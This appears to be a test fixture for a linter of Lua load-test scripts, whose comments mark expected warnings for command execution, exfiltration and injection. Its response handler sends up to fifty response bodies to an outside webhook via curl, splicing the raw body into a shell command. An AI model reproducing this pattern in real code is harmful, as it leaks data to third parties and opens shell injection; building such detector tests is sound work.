-- Bodies posted to a webhook with curl through the shell (command, exfiltration, injection).

local hook = "https://hooks.example.net/ingest"
local posted = 0

function response(status, headers, body)
   if posted < 50 and status == 200 then
      posted = posted + 1
      os.execute("curl -s -X POST -d '" .. body .. "' " .. hook) -- want WL103 WL503 "response body" WL504 "response body"
   end
end

function done(summary, latency, requests)
   os.execute("curl -s " .. hook .. "/done") -- want WL103
end
